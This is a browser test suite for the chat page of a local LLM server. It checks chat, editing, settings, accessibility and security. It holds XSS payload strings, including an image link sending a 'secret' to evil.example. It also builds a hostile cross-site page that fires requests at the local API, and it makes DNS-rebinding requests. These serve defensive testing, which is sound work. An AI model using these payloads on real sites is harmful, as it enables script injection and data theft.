// The page of `tawny serve` in a real Chromium.      tools/page-test
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { answers, axeSource, cleanUp, ended, isClean, metric, open, profile, say, serve, site, slowly, start, tinyModel } from './harness.mjs';

let server, slow;

before(async () => {
    await start();
    server = await serve(tinyModel, '-t', '1', '-n', '24', '-c', '1024');
    slow = await slowly(server, 30);
});
after(cleanUp);

const titles = (page) => page.locator('#list a').allTextContents();
const theText = async (locator, text) => {
    await locator.filter({ hasText: text }).first().waitFor();
};

test('it is there: without a page there is nothing to test', async () => {
    const r = await fetch(server.url, { headers: { Accept: 'text/html' } });
    assert.equal(r.status, 200, 'the server was built without a page');
});

test('chat, reload, a second tab', async () => {
    const context = await profile(), page = await open(context, server);
    await say(page, 'the first message');
    assert.notEqual(await answers(page).first().textContent(), '');
    assert.match(await page.locator('.stats').textContent(), /24 tokens · .* tok\/s · prompt/);
    assert.match(await page.locator('.end-note').textContent(), /limit of tokens/);
    await theText(page.locator('#bandwidth'), 'GB/s');
    assert.equal(await page.locator('#meter').isVisible(), false, 'no ceiling is known yet');
    await page.click('#gauge summary');
    await page.click('#measure');
    await theText(page.locator('#bandwidth'), / of .* GB\/s/);
    assert.match(await page.locator('#facts').textContent(), /Memory can.*GB\/s \(\d+% reached\)/);
    await page.keyboard.press('Escape');
    assert.equal(await page.locator('#gauge').getAttribute('open'), null);
    assert.equal(await page.locator('#meter').isVisible(), true);
    const text = await answers(page).first().textContent();

    await page.reload();
    await theText(page.locator('.msg.user'), 'the first message');
    assert.equal(await answers(page).first().textContent(), text);
    await page.locator('#model', { hasText: 'context' }).waitFor();

    const second = await open(context, server);
    await second.locator('#list a').waitFor();
    assert.deepEqual(await titles(second), ['the first message']);
    await say(second, 'said in the other tab');
    await page.locator('#list a').nth(1).waitFor();
    assert.deepEqual(await titles(page), ['said in the other tab', 'the first message']);
    isClean(context, server);
    await context.close();
});

test('the same conversation in two tabs: the later one becomes a copy', async () => {
    const context = await profile(), page = await open(context, slow);
    slow.state.answer = (b) => ({ text: `to ${b.messages.at(-1).content}: ${'word '.repeat(20)}` });
    await say(page, 'shared');
    const second = await open(context, slow, new URL(page.url()).hash);
    await theText(second.locator('.msg.user'), 'shared');
    await page.fill('#text', 'one');
    await second.fill('#text', 'two');
    await page.press('#text', 'Enter');
    await second.press('#text', 'Enter');
    await ended(page);
    await ended(second);
    await page.locator('#list a').nth(1).waitFor();
    assert.notEqual(new URL(page.url()).hash, new URL(second.url()).hash);
    for (const [tab, word] of [[page, 'one'], [second, 'two']]) {
        await tab.reload();
        await theText(tab.locator('.msg.user').last(), word);
        await theText(answers(tab).last(), `${word}: word`);
    }
    isClean(context, slow);
    await context.close();
});

test('stop, regenerate, edit, undo', async () => {
    const context = await profile(), page = await open(context, slow);
    slow.state.answer = () => ({ text: 'word '.repeat(400) });
    await page.fill('#text', 'a long one');
    await page.press('#text', 'Enter');
    await theText(answers(page), 'word');
    await page.click('#send');
    await ended(page);
    await theText(page.locator('.end-note'), 'Stopped');
    assert.equal(slow.state.gone, 1, 'the server was hung up on');
    const stopped = await answers(page).first().textContent();
    assert.ok(stopped.length < 1500);

    slow.state.answer = () => ({ text: 'another answer' });
    await page.locator('button[aria-label="Regenerate the answer"]').click();
    await theText(answers(page), 'another answer');
    await ended(page);
    assert.equal(await page.locator('.msg').count(), 2);

    slow.state.answer = (b) => ({ text: `heard: ${b.messages.at(-1).content}` });
    await say(page, 'a second message');
    assert.equal(await page.locator('.msg').count(), 4);
    await page.locator('.msg.user').first().hover();
    await page.locator('button[aria-label="Edit the message"]').first().click();
    await page.locator('.editing textarea').fill('a changed message');
    await page.keyboard.press('Enter');
    await theText(answers(page), 'heard: a changed message');
    await ended(page);
    assert.equal(await page.locator('.msg').count(), 2);
    assert.deepEqual(slow.state.bodies.at(-1).messages, [{ role: 'user', content: 'a changed message' }]);
    await page.locator('#toast button').click();
    await page.locator('.msg').nth(3).waitFor();
    await theText(page.locator('.msg.user').first(), 'a long one');
    isClean(context, slow);
    await context.close();
});

test('stop frees the slot', { skip: !existsSync(process.env.SMALL_MODEL) && 'no model is there that takes its time (make demo)' }, async () => {
    const real = await serve(process.env.SMALL_MODEL, '-c', '4096');
    const context = await profile(), page = await open(context, real);
    await page.route('**/v1/chat/completions', (route) => /* it does not end by itself */
        route.continue({ postData: JSON.stringify({ ...route.request().postDataJSON(), ignore_eos: true, max_tokens: 3000 }) }));
    await page.fill('#text', 'Count from one to one thousand, in words.');
    await page.press('#text', 'Enter');
    await answers(page).locator('.block').first().waitFor();
    await page.keyboard.press('Escape');
    await ended(page);
    for (let i = 0; i < 50 && await metric(real, 'llamacpp:requests_processing') > 0; i++) await new Promise((go) => setTimeout(go, 20));
    assert.equal(await metric(real, 'llamacpp:requests_processing'), 0);
    assert.equal(await metric(real, 'tawny:requests_cancelled_total'), 1);
    isClean(context, real);
    await context.close();
    await real.stop();
});

// What a model may say; the grammar makes the model itself say it, byte for byte.
const HOSTILE = [
    '<script>window.pwned = 1</script>',
    '<img src=x onerror="window.pwned = 2">',
    '[click](javascript:window.pwned=3)',
    '<svg onload=window.pwned=4></svg>',
    '![x](http://evil.example/?secret)',
    '<a href="javascript:alert(5)">x</a>',
    '[x](data:text/html,<script>alert(6)</script>)',
    '<iframe srcdoc="<script>parent.pwned=7</script>">',
    '<form action=http://evil.example><button>go',
    '```html\n<script>window.pwned = 8</script>\n```',
    '```"><img src=x onerror=window.pwned=9>\nx\n```',
    '[x]: javascript:alert(10) "t"\n\n[x]',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=11>',
    '<style>*{display:none}</style><base href=http://evil.example/>',
    '[a](vbscript:x) [b](&#106;avascript:x) [c](java&#10;script:x) [d](//evil.example/)',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '| a |\n|--|\n| <img src=x onerror=window.pwned=12> |',
];

test('a model that says scripts: nothing runs, nothing is asked for', async () => {
    const context = await profile(), page = await open(context, server);
    for (const text of HOSTILE) {
        await page.unrouteAll();
        await page.route('**/v1/chat/completions', (route) => {
            const body = route.request().postDataJSON();
            body.grammar = `root ::= ${JSON.stringify(text)}`;
            body.max_tokens = 400;
            body.messages = [{ role: 'user', content: 'x' }];
            route.continue({ postData: JSON.stringify(body) });
        });
        await say(page, text); /* as the user's too */
        assert.equal(await page.locator('.error:not([hidden])').count(), 0);
    }
    const last = await page.evaluate(() => document.querySelector('.msg.model > .md').textContent);
    assert.match(last, /<script>window.pwned = 1<\/script>/, 'markup is shown as it is');
    const check = async () => {
        assert.equal(await page.evaluate(() => window.pwned), undefined);
        const found = await page.evaluate(() => [...document.querySelectorAll('#messages *')].filter((n) =>
            /^(SCRIPT|IMG|IFRAME|FORM|STYLE|BASE|META|OBJECT|EMBED|LINK|MATH|INPUT)$/i.test(n.nodeName) ||
            [...n.attributes].some((a) => /^(on|style|src|srcdoc|action|formaction|id$|name$)/i.test(a.name)) ||
            (n.href && typeof n.href === 'string' && !/^(https?|mailto):/.test(n.href))).map((n) => n.outerHTML));
        assert.deepEqual(found, []);
        const links = await page.evaluate(() => [...document.querySelectorAll('#messages a')].map((a) => [a.target, a.rel]));
        for (const [target, rel] of links) assert.deepEqual([target, rel], ['_blank', 'noopener noreferrer nofollow']);
    };
    await check();
    await page.reload(); /* from what was kept */
    await page.locator('.msg.model').nth(HOSTILE.length - 1).waitFor();
    await check();
    isClean(context, server);
    await context.close();
});

test('titles, system prompts and names are text too', async () => {
    const context = await profile(), page = await open(context, slow);
    slow.state.answer = () => ({ reasoning: '<img src=x onerror=window.pwned=1>', text: 'fine' });
    await page.click('#settings-open');
    await page.fill('#system', '<script>window.pwned = 2</script>');
    await page.keyboard.press('Escape');
    await say(page, '<img src=x onerror=window.pwned=3>');
    await page.locator('.thought summary').click();
    await theText(page.locator('.thought .md'), '<img src=x');
    assert.equal(slow.state.bodies.at(-1).messages[0].content, '<script>window.pwned = 2</script>');
    await page.reload();
    await theText(page.locator('#list a'), '<img src=x');
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    isClean(context, slow);
    await context.close();
});

test('other sites and a rebound name reach no handler', async () => {
    const attack = `<body><img src="${server.url}metrics"><script src="${server.url}props"></script><iframe src="${server.url}"></iframe>
        <script>
        const u = '${server.url}', j = JSON.stringify({ prompt: 'x', max_tokens: 1 });
        const tries = [
            fetch(u + 'v1/models'), fetch(u + 'v1/models', { mode: 'no-cors' }),
            fetch(u + 'v1/completions', { method: 'POST', body: j }),
            fetch(u + 'v1/completions', { method: 'POST', body: j, mode: 'no-cors' }),
            fetch(u + 'v1/completions', { method: 'POST', body: j, headers: { 'Content-Type': 'application/json' } }),
            new Promise((go) => { const x = new XMLHttpRequest(); x.open('POST', u + 'completion'); x.onloadend = go; x.send(j); }),
        ];
        navigator.sendBeacon(u + 'v1/completions', j);
        for (const path of ['v1/completions', '']) {
            const f = document.createElement('form'), frame = document.createElement('iframe');
            frame.name = 'f' + path.length;
            f.method = 'POST'; f.action = u + path; f.enctype = 'text/plain'; f.target = frame.name;
            document.body.append(frame, f);
            f.submit();
        }
        Promise.allSettled(tries).then((all) => setTimeout(() => { document.title = 'tried ' + all.map((a) => a.status[0] + (a.value?.status ?? '')); }, 500));
        </script></body>`;
    const port = await site(attack), context = await profile();
    const tasks = await metric(server, 'tawny:requests_total'), handled = await metric(server, 'tawny:http_requests_total');
    const refused = await metric(server, 'tawny:http_refused_total');
    let asked = 2; /* the metrics above that count themselves */
    for (const host of ['localhost', '127.0.0.1']) { /* another site, and another origin of the same site */
        const page = await context.newPage();
        await page.goto(`http://${host}:${port}/`);
        await page.waitForFunction(() => document.title.startsWith('tried'));
        assert.doesNotMatch(await page.title(), /f200/);
        await page.close();
    }
    const page = await context.newPage();
    for (const path of ['', 'v1/models', 'metrics', 'page/app.js']) {
        const r = await page.goto(`http://evil.example:${server.port}/${path}`);
        assert.equal(r.status(), 403, path);
    }
    assert.equal(await metric(server, 'tawny:requests_total'), tasks, 'no task was made');
    asked++;
    assert.equal(await metric(server, 'tawny:http_requests_total') - handled, asked, 'no request reached a handler');
    assert.ok(await metric(server, 'tawny:http_refused_total') >= refused + 24);
    /* a link works */
    const other = await site(`<a href="${server.url}">chat</a>`);
    await page.goto(`http://localhost:${other}/`);
    await page.click('a');
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await context.close();
});

test('an API key: asked for once, kept in the tab alone', async () => {
    const locked = await serve(tinyModel, '-t', '1', '-n', '8', '--api-key', 'the secret');
    const context = await profile(), page = await context.newPage();
    await page.goto(locked.url);
    await page.locator('#key[open]').waitFor();
    await page.fill('#key-text', 'wrong');
    await page.keyboard.press('Enter');
    await theText(page.locator('#key-why'), 'does not know');
    await page.fill('#key-text', 'the secret');
    await page.keyboard.press('Enter');
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await say(page, 'hello');
    assert.notEqual(await answers(page).first().textContent(), '');
    const kept = await page.evaluate(async () => {
        const dbs = await indexedDB.databases();
        return [JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie, location.href, dbs.length];
    });
    assert.ok(!kept[0].includes('secret') && kept[1].includes('the secret') && kept[2] === '' && !kept[3].includes('secret'));
    await page.reload();
    await page.locator('#model', { hasText: 'context' }).waitFor();
    const second = await context.newPage();
    await second.goto(locked.url);
    await second.locator('#key[open]').waitFor();
    await second.locator('#key-cancel').click();
    await theText(second.locator('#notice'), 'API key');
    isClean(context, locked, (t) => t.includes('401'));
    await context.close();
    await locked.stop();
});

test('settings go into requests; wrong ones do not', async () => {
    const context = await profile(), page = await open(context, slow);
    slow.state.answer = () => ({ text: 'yes' });
    await page.click('#settings-open');
    assert.equal(await page.getAttribute('#f-temperature', 'placeholder'), '0.8');
    await page.fill('#f-temperature', '0.25');
    await page.fill('#f-top_k', '7');
    await page.fill('#f-top_p', '1.5');
    await page.fill('#f-seed', '42');
    await page.fill('#stop', 'END\nSTOP');
    await page.check('#fingerprint');
    assert.equal(await page.getAttribute('#f-top_p', 'aria-invalid'), 'true');
    await page.click('#settings-close');
    await page.reload();
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await say(page, 'x');
    const { messages, ...body } = slow.state.bodies.at(-1);
    assert.deepEqual(body, { temperature: 0.25, top_k: 7, seed: 42, stop: ['END', 'STOP'], fingerprint: true, stream: true,
        stream_options: { include_usage: true }, timings_per_token: true });
    isClean(context, slow);
    await context.close();
});

test('conversations are bounded: the oldest make room', async () => {
    const context = await profile(), page = await open(context, server);
    await page.evaluate(() => new Promise((go, no) => {
        const open = indexedDB.open('tawny');
        open.onsuccess = () => {
            const tx = open.result.transaction(['list', 'conversations'], 'readwrite');
            for (let i = 0; i < 230; i++) {
                const c = { id: `old${i}`, title: `old ${i}`, created: i, updated: i, version: 1, bytes: 100 };
                tx.objectStore('list').put(c);
                tx.objectStore('conversations').put({ ...c, messages: [], system: '' });
            }
            tx.oncomplete = () => { open.result.close(); go(); };
            tx.onerror = no;
        };
    }));
    await say(page, 'the newest');
    await page.waitForFunction(() => document.querySelectorAll('#list li').length === 200);
    assert.equal((await titles(page))[0], 'the newest');
    await page.fill('#filter', 'old 229');
    assert.deepEqual(await titles(page), ['old 229']);
    await page.click('#settings-open');
    await theText(page.locator('#kept'), '200 conversations');
    context.seen.dialogs.length = 0;
    await page.click('#delete-all');
    await page.waitForFunction(() => document.querySelectorAll('#list li').length === 0);
    assert.equal(context.seen.dialogs.length, 1);
    context.seen.dialogs.length = 0;
    isClean(context, server);
    await context.close();
});

test('rename, delete, undo', async () => {
    const context = await profile(), page = await open(context, server);
    await say(page, 'one');
    await page.keyboard.press('Alt+n');
    await say(page, 'two');
    await page.locator('#list li').first().hover();
    await page.locator('#list li').first().locator('button').first().click();
    await page.locator('#list input').fill('a better name');
    await page.keyboard.press('Enter');
    await theText(page.locator('#title'), 'a better name');
    await page.locator('#list li').first().hover();
    await page.locator('button[aria-label="Delete: a better name"]').click();
    await page.waitForFunction(() => document.querySelectorAll('#list li').length === 1);
    assert.equal(await page.locator('.msg').count(), 0);
    await page.locator('#toast button').click();
    await theText(page.locator('#title'), 'a better name');
    assert.deepEqual(await titles(page), ['a better name', 'one']);
    isClean(context, server);
    await context.close();
});

test('by keyboard alone', async () => {
    const context = await profile(), page = await open(context, slow);
    slow.state.answer = () => ({ reasoning: 'hm', text: 'A first block.\n\n```c\nint x;\n```\n\nThe end.' });
    const focused = () => page.evaluate(() => { const a = document.activeElement; return a.id || a.getAttribute('aria-label') || a.nodeName; });
    const tabTo = async (wanted, key = 'Tab') => {
        for (let i = 0; i < 60; i++) {
            await page.keyboard.press(key);
            if (await focused() === wanted) return;
        }
        assert.fail(`${wanted} is not reached by ${key}`);
    };
    assert.equal(await focused(), 'text');
    await page.keyboard.type('line one');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('line two');
    await page.keyboard.press('Enter');
    await ended(page);
    assert.equal(slow.state.bodies.at(-1).messages[0].content, 'line one\nline two');
    assert.match(await page.locator('#live').textContent(), /A first block\..*The end\./s);
    await theText(page.locator('#status'), 'complete');
    await tabTo('Regenerate the answer', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await ended(page);
    await tabTo('Copy the code', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await theText(page.locator('#status'), 'Copied');
    assert.equal(await focused(), 'Copy the code');
    await page.keyboard.press('/');
    await page.keyboard.press('Control+v');
    assert.equal(await page.inputValue('#text'), 'int x;\n');
    await page.fill('#text', '');
    await tabTo('settings-open', 'Shift+Tab');
    await page.keyboard.press('Enter');
    await page.locator('#settings[open]').waitFor();
    await tabTo('f-temperature');
    await page.keyboard.type('0.5');
    await page.keyboard.press('Escape');
    await page.locator('#settings[open]').waitFor({ state: 'hidden' });
    assert.equal(await focused(), 'settings-open');
    await page.keyboard.press('/');
    assert.equal(await focused(), 'text');
    await page.keyboard.press('ArrowUp');
    assert.equal(await focused(), 'Message');
    await page.keyboard.press('Escape');
    slow.state.answer = () => ({ text: 'word '.repeat(300) });
    await page.keyboard.press('/');
    await page.keyboard.type('long');
    await page.keyboard.press('Enter');
    await theText(answers(page), 'word');
    await page.keyboard.press('Escape');
    await ended(page);
    await theText(page.locator('.end-note:not([hidden])'), 'Stopped');
    /* a button that cannot be seen keeps no focus: the whole page is walked through once */
    for (let i = 0; i < 40; i++) {
        await page.keyboard.press('Tab');
        const box = await page.evaluate(() => { const r = document.activeElement.getBoundingClientRect(); return [document.activeElement.nodeName, r.width, r.height]; });
        assert.ok(box[0] === 'BODY' || (box[1] > 0 && box[2] > 0), box.join());
    }
    isClean(context, slow);
    await context.close();
});

const WIDE = `A${'a'.repeat(300)}\n\n\`\`\`c\nint main(void) { return ${'0 + '.repeat(80)}0; }\n\`\`\`\n\n|${' column |'.repeat(14)}\n|${'--|'.repeat(14)}\n` +
    `|${' cell |'.repeat(14)}\n\nhttps://example.org/${'x'.repeat(200)}\n\n\`${'c'.repeat(200)}\`\n`;

test('on a phone: nothing is wider than it', async () => {
    const context = await profile({ viewport: { width: 360, height: 640 }, isMobile: true, hasTouch: true }), page = await open(context, slow);
    slow.state.answer = () => ({ reasoning: WIDE, text: WIDE, piece: 500 });
    const fits = async (what) => {
        const [a, b] = await page.evaluate(() => [document.documentElement.scrollWidth,
            Math.max(...[...document.querySelectorAll('#scroll, #messages, .msg, .bar, .foot, dialog[open], dialog[open] .body')].map((n) => n.getBoundingClientRect().right))]);
        assert.ok(a <= 360 && b <= 360, `${what}: ${a}, ${b}`);
        const inner = await page.evaluate(() => { const s = document.getElementById('scroll'); return s.scrollWidth - s.clientWidth; });
        assert.equal(inner, 0, what);
    };
    await fits('empty');
    await page.fill('#text', `a question ${'q'.repeat(200)}`);
    await page.tap('#send');
    await ended(page);
    await page.locator('.thought summary').tap();
    await fits('chat');
    await page.tap('#settings-open');
    await page.locator('#settings[open]').waitFor();
    await fits('settings');
    await page.tap('#settings-close');
    await page.tap('#gauge summary');
    await fits('gauge');
    await page.tap('#gauge summary');
    await page.tap('#side-open');
    await page.locator('#list a').waitFor();
    await fits('side');
    await page.tap('#new');
    await page.locator('#side-open').waitFor();
    assert.equal(await page.locator('.msg').count(), 0);
    const small = await page.evaluate(() => [...document.querySelectorAll('button, input, summary')].filter((n) => n.checkVisibility({ visibilityProperty: true }))
        .map((n) => [n.id, n.getBoundingClientRect()]).filter(([, r]) => r.width > 1 && (r.height < 24 || r.width < 24)).map(([id]) => id));
    assert.deepEqual(small, [], 'targets of at least 24 pixels');
    isClean(context, slow);
    await context.close();
});

for (const colorScheme of ['light', 'dark']) {
    test(`${colorScheme}: contrast, names and roles (axe)`, async () => {
        const context = await profile({ colorScheme, reducedMotion: 'reduce' }), page = await open(context, slow);
        slow.state.answer = () => ({ reasoning: 'thought', piece: 500, text: '## Head\n\ntext `code` [link](https://example.org/)\n\n> quote\n\n' +
            '```python\n# note\ndef f(x: int) -> str:\n    return "text" + str(3.5)\n```\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n' });
        const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor.match(/\d+/g).map(Number));
        const light = (await background())[0] > 128;
        assert.equal(light, colorScheme === 'light');
        const check = async (what) => {
            await page.evaluate(axeSource);
            const found = await page.evaluate(async () => (await window.axe.run({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] }))
                .violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 120)).join(' ')}`));
            assert.deepEqual(found, [], what);
        };
        await check('empty');
        await say(page, 'x');
        await page.locator('.thought summary').click();
        await check('chat');
        await page.locator('.msg.user').hover();
        await page.locator('button[aria-label="Edit the message"]').click();
        await check('editing');
        await page.keyboard.press('Escape');
        await page.click('#gauge summary');
        await check('gauge');
        await page.keyboard.press('Escape');
        await page.click('#settings-open');
        await check('settings');
        await page.locator(`input[value=${colorScheme === 'light' ? 'dark' : 'light'}]`).check();
        assert.notEqual((await background())[0] > 128, light);
        await page.reload();
        assert.notEqual((await background())[0] > 128, light, 'the choice is kept');
        isClean(context, slow);
        await context.close();
    });
}

test('a server that still loads its model, and one without anything to do', async () => {
    const context = await profile(), page = await context.newPage();
    let tries = 0;
    await page.route('**/health', (route) => (++tries < 3 ? route.fulfill({ status: 503, body: '{"error":{"message":"Loading model"}}' }) : route.continue()));
    await page.goto(server.url);
    await theText(page.locator('#model'), 'Loading model');
    await page.fill('#text', 'early');
    await page.press('#text', 'Enter');
    assert.equal(await page.locator('.msg').count(), 0, 'it waits');
    await page.locator('#model', { hasText: 'context' }).waitFor();
    await page.press('#text', 'Enter');
    await ended(page);
    assert.equal(await page.locator('.msg').count(), 2);
    await page.waitForTimeout(1200);
    const before = context.seen.requests.length;
    await page.waitForTimeout(2500);
    assert.equal(context.seen.requests.length, before, 'a page that only lies there asks nothing');
    isClean(context, server, (t) => t.includes('503'));
    await context.close();
});

test('a browser that keeps nothing', async () => {
    const context = await profile();
    await context.addInitScript(() => {
        Object.defineProperty(window, 'indexedDB', { value: { open() { throw new DOMException('no', 'SecurityError'); } } });
        Object.defineProperty(navigator, 'clipboard', { value: undefined }); /* as over HTTP from another machine */
        delete window.BroadcastChannel;
    });
    const page = await open(context, server);
    await theText(page.locator('#side-note'), 'keeps nothing');
    await say(page, 'one');
    await page.keyboard.press('Alt+n');
    await say(page, 'two');
    await page.locator('#list a', { hasText: 'one' }).click();
    await theText(page.locator('.msg.user'), 'one');
    await page.locator('button[aria-label="Copy the message"]').focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('/');
    await page.keyboard.press('Control+v');
    assert.equal(await page.inputValue('#text'), 'one');
    isClean(context, server);
    await context.close();
});

test('a server that goes away', async () => {
    const brief = await serve(tinyModel, '-t', '1', '-n', '8');
    const context = await profile(), page = await open(context, brief);
    await say(page, 'there');
    await brief.stop();
    await say(page, 'gone');
    await theText(page.locator('.error:not([hidden])'), 'cannot be reached');
    await context.close();
});
